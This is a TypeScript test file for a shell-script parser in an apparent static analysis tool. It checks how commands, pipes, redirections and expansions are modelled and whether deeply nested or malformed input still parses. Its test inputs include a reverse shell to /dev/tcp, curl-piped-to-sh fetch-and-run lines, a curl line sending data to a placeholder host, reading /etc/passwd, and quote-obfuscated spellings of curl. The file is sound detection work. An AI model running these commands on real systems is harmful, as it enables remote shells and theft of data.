import { describe, expect, it } from 'vitest';
import type { Expression, ParsedText, Statement } from '../../../../src/model/program.ts';
import { createShellFrontend } from '../../../../src/static/frontends/shell/frontend.ts';
import { callsIn, calleeText, withoutSpans } from '../shape.ts';

const frontend = createShellFrontend();

function parse(text: string): ParsedText {
  return frontend.parse(text, 'shell', 'run.sh');
}

function statements(text: string): readonly Statement[] {
  const parsed = parse(text);
  expect(parsed.problem).toBeNull();
  return parsed.program?.body ?? [];
}

function command(text: string): Extract<Expression, { kind: 'call' }> {
  const found = statements(text).find((statement) => statement.kind === 'expression');
  if (found?.kind !== 'expression' || found.expression.kind !== 'call') {
    throw new Error(`no command in ${text}`);
  }
  return found.expression;
}

function callees(text: string): string[] {
  return callsIn(parse(text).program?.body ?? [])
    .map((call) => calleeText(call.callee))
    .sort();
}

const name = (text: string) => ({ kind: 'name', name: text });
const literal = (value: string | number) => ({ kind: 'literal', value });
const word = (value: string) => ({ name: null, value: literal(value) });
const call = (callee: string, ...args: unknown[]) => ({ kind: 'call', callee: name(callee), args });

describe('commands', () => {
  it('is a call with a positional argument a word', () => {
    expect(withoutSpans(command('curl -d "$X" https://a.example/$(id)'))).toEqual(
      call(
        'curl',
        word('-d'),
        { name: null, value: name('X') },
        { name: null, value: { kind: 'template', parts: [literal('https://a.example/'), call('id')] } },
      ),
    );
  });

  it.each([
    [`c"ur"l`, 'curl'],
    [String.raw`\c\u\r\l`, 'curl'],
    [String.raw`$'\x63\165rl'`, 'curl'],
    [`'cu'"r"l`, 'curl'],
    ['/usr/bin/curl', '/usr/bin/curl'],
  ])('sees through the quoting of %s', (written, meant) => {
    expect(withoutSpans(command(`${written} x`))).toEqual(call(meant, word('x')));
  });

  it('expands braces that stand for spaces', () => {
    expect(withoutSpans(parse('{cat,/etc/passwd}').program?.body)).toEqual([
      { kind: 'expression', expression: call('cat', word('/etc/passwd')) },
    ]);
    expect(withoutSpans(command('rm a{1,2}.txt'))).toEqual(call('rm', word('a1.txt'), word('a2.txt')));
  });

  it('keeps a computed command as an expression', () => {
    expect(withoutSpans(command('"$tool" x'))).toEqual({
      kind: 'call',
      callee: name('tool'),
      args: [word('x')],
    });
  });

  it('puts assignments before the command', () => {
    expect(withoutSpans(statements('A=1 B="b $c" cmd'))).toEqual([
      { kind: 'assign', target: name('A'), value: literal('1'), operator: '=' },
      {
        kind: 'assign',
        target: name('B'),
        value: { kind: 'template', parts: [literal('b '), name('c')] },
        operator: '=',
      },
      { kind: 'expression', expression: call('cmd') },
    ]);
  });

  it.each(['export A=b', 'declare -x A=b', 'local A="b"', `export "A=b"`, 'A=b'])('%s assigns', (text) => {
    expect(withoutSpans(statements(text))).toEqual([
      { kind: 'assign', target: name('A'), value: literal('b'), operator: '=' },
    ]);
  });

  it('takes export without a value for the command it is', () => {
    expect(withoutSpans(command('export -p'))).toEqual(call('export', word('-p')));
  });

  it('keeps text between expansions exactly', () => {
    expect(withoutSpans(command(`echo "a  $b \\"c\\" \\x $(d)  "`))).toEqual(
      call('echo', {
        name: null,
        value: {
          kind: 'template',
          parts: [literal('a  '), name('b'), literal(String.raw` "c" \x `), call('d'), literal('  ')],
        },
      }),
    );
  });
});

describe('streams', () => {
  it('makes what is left of a pipe the standard input of what is right of it', () => {
    expect(withoutSpans(command('curl x | base64 -d | sh'))).toEqual(
      call('sh', {
        name: 'stdin',
        value: call('base64', word('-d'), { name: 'stdin', value: call('curl', word('x')) }),
      }),
    );
  });

  it.each([
    ['cmd > f', 'stdout', 'f'],
    ['cmd >> f', 'stdout-append', 'f'],
    ['cmd 2> f', 'stderr', 'f'],
    ['cmd &> f', 'stdout', 'f'],
    ['cmd < f', 'stdin', 'f'],
    ['cmd <<< "f"', 'stdin', 'f'],
    ['cmd 3> f', 'fd3', 'f'],
    ['> f cmd', 'stdout', 'f'],
    ['cmd 2>&1 > f', 'stdout', 'f'],
  ])('%s is an argument named %s', (text, stream, value) => {
    expect(withoutSpans(command(text))).toEqual(call('cmd', { name: stream, value: literal(value) }));
  });

  it('keeps words that follow a redirection', () => {
    expect(withoutSpans(command('cmd > f x'))).toEqual(
      call('cmd', word('x'), { name: 'stdout', value: literal('f') }),
    );
  });

  it('knows the file behind a network redirection', () => {
    expect(withoutSpans(command('bash -i >& /dev/tcp/192.0.2.1/99 0>&1'))).toEqual(
      call('bash', word('-i'), { name: 'stdout', value: literal('/dev/tcp/192.0.2.1/99') }),
    );
  });

  it('reads here-documents with and without expansion', () => {
    expect(withoutSpans(command('cat << E\na $b\n c\nE\n'))).toEqual(
      call('cat', {
        name: 'stdin',
        value: { kind: 'template', parts: [literal('a '), name('b'), literal('\n c\n')] },
      }),
    );
    expect(withoutSpans(command(`cat << 'E' | sh\na $b\nE\n`))).toEqual(
      call('sh', { name: 'stdin', value: call('cat', { name: 'stdin', value: literal('a $b\n') }) }),
    );
  });

  it('hands a group its input and output', () => {
    expect(withoutSpans(statements('{ cat; echo a; } < in > out'))).toEqual([
      {
        kind: 'expression',
        expression: call(
          'cat',
          { name: 'stdin', value: literal('in') },
          { name: 'stdout', value: literal('out') },
        ),
      },
      { kind: 'expression', expression: call('echo', word('a'), { name: 'stdout', value: literal('out') }) },
    ]);
  });

  it('binds the variables of read to what it reads', () => {
    const [assign, loop] = withoutSpans(
      statements('curl x | while read -r line; do sh -c "$line"; done'),
    ) as [{ value: unknown }, { iterable: unknown }];
    expect(assign.value).toEqual(call('curl', word('x')));
    expect(loop.iterable).toMatchObject({
      kind: 'assignment',
      target: name('line'),
      value: { kind: 'call', callee: name('read') },
    });
  });

  it('reads a file that is substituted without a command', () => {
    expect(withoutSpans(command('echo $(< f)'))).toEqual(
      call('echo', { name: null, value: call('cat', word('f')) }),
    );
  });
});

describe('expansions', () => {
  it.each([
    ['${x:-d}', { kind: 'conditional', test: name('x'), whenTrue: name('x'), whenFalse: literal('d') }],
    ['${x:1:2}', { kind: 'slice', object: name('x'), start: literal(1), stop: literal(3), step: null }],
    [
      '${x//a/b}',
      {
        kind: 'call',
        callee: { kind: 'member', object: name('x'), property: 'replace' },
        args: [word('a'), word('b')],
      },
    ],
    ['${x[0]}', { kind: 'index', object: name('x'), index: literal('0') }],
    ['${x[@]}', name('x')],
    ['${x}', name('x')],
    ['$((1 + $x))', { kind: 'binary', operator: '+', left: literal(1), right: name('x') }],
  ])('%s', (text, value) => {
    expect(withoutSpans(command(`echo ${text}`))).toEqual(call('echo', { name: null, value }));
  });
});

describe('compound commands', () => {
  it('guards what follows && and ||', () => {
    expect(withoutSpans(statements('[ "$USER" = root ] && rm x'))).toEqual([
      {
        kind: 'branch',
        test: { kind: 'binary', operator: '=', left: name('USER'), right: literal('root') },
        branches: [[{ kind: 'expression', expression: call('rm', word('x')) }]],
      },
    ]);
    expect(withoutSpans(statements('a || b'))).toMatchObject([
      { kind: 'branch', test: { kind: 'unary', operator: '!', operand: call('a') } },
    ]);
  });

  it('gives only the first of a list what is piped into it', () => {
    const calls = callsIn(statements('curl x | sh && echo ok'));
    const withInput = calls.filter(({ args }) => args.some((argument) => argument.name === 'stdin'));
    expect(withInput.map(({ callee }) => calleeText(callee))).toEqual(['sh']);
  });

  it('lowers if, elif and else to nested branches', () => {
    expect(withoutSpans(statements('if a; then b; elif c; then d; else e; fi'))).toMatchObject([
      {
        kind: 'branch',
        test: call('a'),
        branches: [
          [{ expression: call('b') }],
          [
            {
              kind: 'branch',
              test: call('c'),
              branches: [[{ expression: call('d') }], [{ expression: call('e') }]],
            },
          ],
        ],
      },
    ]);
  });

  it('lowers loops, cases and functions', () => {
    expect(withoutSpans(statements('for i in a $b; do c "$i"; done'))).toMatchObject([
      { kind: 'loop', binding: name('i'), iterable: { elements: [literal('a'), name('b')] }, body: [{}] },
    ]);
    expect(withoutSpans(statements('case $x in a|b) c;; *) d;; esac'))).toMatchObject([
      {
        kind: 'branch',
        test: name('x'),
        branches: [[{ expression: call('c') }], [{ expression: call('d') }]],
      },
    ]);
    expect(withoutSpans(statements('f() { g "$1"; }'))).toMatchObject([
      {
        kind: 'function',
        definition: { name: 'f', body: [{ expression: call('g', { value: name('1') }) }] },
      },
    ]);
  });

  it.each([
    '(a; b) | { c; d; } && e & f',
    'while a; do b; done; until c; do d; done; for ((i=$(e); i < 3; i++)); do f; done',
    'x=$(a `b`) y=($(c) $(d)) z[$(e)]=1; f',
    '! a && [[ -n $(b) && $(c) == d ]] || e > $(d) <(f)',
    'function x { a | b; }; y() ( c ); if ! d; then e; fi; f',
    'a <<E && b\n$(c)\nE\nd "`e`" ${f:-$(f)}',
    'export A=$(a) B=`b`; readonly C=$(c); case $(d) in $(e)) f;; esac',
  ])('loses no command in %j', (text) => {
    expect(callees(text).join('')).toMatch(/^a.*b.*c.*d.*e.*f$/);
  });
});

describe('hostile text', () => {
  it('takes an empty array for no function: what comes after it runs', () => {
    const parsed = parse('f() {\n  a=()\n  b=()\n}\nc=()\ncurl x\n');
    expect(parsed.problem).toBeNull();
    expect(parsed.program?.body.filter(({ kind }) => kind === 'function')).toHaveLength(1);
    expect(callees('c=()\ncurl x\n')).toEqual(['curl']);
  });

  it('collects comments as spans', () => {
    const text = '#!/bin/sh\na # one\n"# no"';
    const spans = parse(text).program?.comments ?? [];
    expect(spans.map(({ start, end }) => text.slice(start, end))).toEqual(['#!/bin/sh', '# one']);
  });

  it('keeps what stands around a syntax error, and says where it is', () => {
    const parsed = parse('a\nif then )\ncurl x | sh\n');
    expect(parsed.status).toBe('recovered');
    expect(parsed.problem).toMatch(/^syntax error at line \d/);
    expect(callsIn(parsed.program?.body ?? []).map(({ callee }) => calleeText(callee))).toEqual(
      expect.arrayContaining(['curl', 'sh']),
    );
  });

  it.each([
    ['substitutions', '$('.repeat(3_000) + 'evil' + ')'.repeat(3_000)],
    ['groups', '( '.repeat(3_000) + 'evil' + ' )'.repeat(3_000)],
    ['pipes', 'a | '.repeat(5_000) + 'evil'],
    ['lists', 'a && '.repeat(5_000) + 'evil'],
    ['conditions', 'if a; then '.repeat(2_000) + 'evil; ' + 'fi; '.repeat(2_000)],
    ['negations', '[[ ' + '! '.repeat(5_000) + '$(evil) ]]'],
    ['unclosed quotes', 'evil\n' + '"$('.repeat(20_000)],
  ])('survives deeply nested %s and still sees the command inside', (_, text) => {
    expect(callees(text)).toContain('evil');
  });
});
